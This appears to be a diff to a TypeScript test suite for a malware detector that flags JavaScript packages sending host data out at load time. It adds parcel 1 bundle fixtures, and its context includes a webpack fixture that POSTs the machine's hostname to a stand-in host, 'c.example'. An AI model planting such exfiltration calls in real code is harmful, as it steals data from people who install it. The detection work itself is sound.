@@ -32,6 +32,10 @@ describe('readLoadJavaScript: findings at load', () => {
 const webpack5 = (entry: number, payloadId: number): string =>
   `(()=>{var e={12:(e,t,r)=>{r(34);e.exports=1},${payloadId}:(e,t,r)=>{const h=require("https");h.request({hostname:"c.example",method:"POST"}).end(JSON.stringify({h:require("os").hostname()}))},78:e=>{e.exports=2}},t={};function r(n){var o=t[n];if(void 0!==o)return o.exports;var i=t[n]={exports:{}};return e[n](i,i.exports,r),i.exports}var n=r(${entry});module.exports=n})();`;
 
+/** A parcel 1 bundle (its prelude shortened): modules by id, each with its map of required paths to ids; the entry ids last. */
+const parcel1 = (entry: string, payloadId: string): string =>
+  `parcelRequire = (function (modules, cache, entry, globalName) {\n  function newRequire(name, jumped) {\n    if (!cache[name]) {\n      var module = cache[name] = new newRequire.Module(name);\n      modules[name][0].call(module.exports, localRequire, module, module.exports, this);\n    }\n    return cache[name].exports;\n    function localRequire(x) { return newRequire(localRequire.resolve(x)); }\n    function resolve(x) { return modules[name][1][x] || x; }\n  }\n  function Module(moduleName) { this.id = moduleName; this.bundle = newRequire; this.exports = {}; }\n  newRequire.Module = Module;\n  for (var i = 0; i < entry.length; i++) { newRequire(entry[i]); }\n  return newRequire;\n})({"Focm":[function(require,module,exports) {\nvar x = require("./x");\n},{"./x":"${payloadId === 'b2' ? 'b2' : 'c3'}"}],"b2":[function(require,module,exports) {\n${HEAD}${HOST_DATA_SEND}\n},{}],"c3":[function(require,module,exports) {\nmodule.exports = 1;\n},{}]},{},["${entry}"], null)`;
+
 describe('readLoadJavaScript: the ways code is run at load', () => {
   test.each([
     ['process.nextTick', `${HEAD}process.nextTick(function () { ${HOST_DATA_SEND} });`],
@@ -76,6 +80,8 @@ describe('readLoadJavaScript: the ways code is run at load', () => {
     ['Reflect.apply of a declared function', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nReflect.apply(steal, null, []);`],
     ['a declared function bound and called at once', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nsteal.bind(null)();`],
     ['a declared function bound to another name called by it', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nconst go = steal.bind(null);\ngo();`],
+    ["a parcel 1 bundle's entry module", parcel1('b2', 'c3')],
+    ["a module a parcel 1 bundle's entry requires", parcel1('Focm', 'b2')],
     ["an exported function called through exports['x']()", `${HEAD}exports.steal = function () { ${HOST_DATA_SEND} };\nexports['steal']();`],
   ])('%s', (_name, code) => {
     expect(readLoadJavaScript(code)).toEqual(['exfiltration']);
@@ -116,6 +122,7 @@ describe('readLoadJavaScript: what a library does when asked is not a finding', 
     ['an array of functions stored and exported', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nmodule.exports = [steal];`],
     ['an array of functions walked without calling them (plugins registered)', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nconst plugins = [];\n[steal].forEach((p) => plugins.push(p));\nmodule.exports = plugins;`],
     ['a named array of functions walked only by an exported function', `${HEAD}const steps = [function () { ${HOST_DATA_SEND} }];\nexports.run = () => { steps.forEach((f) => f()); };`],
+    ["a parcel 1 bundle's module that the entry does not require", parcel1('Focm', 'c3')],
     ['a declared function bound and exported, not called', `${HEAD}function steal() { ${HOST_DATA_SEND} }\nmodule.exports = steal.bind(null);`],
   ])('%s', (_name, code) => {
     expect(readLoadJavaScript(code)).toEqual([]);
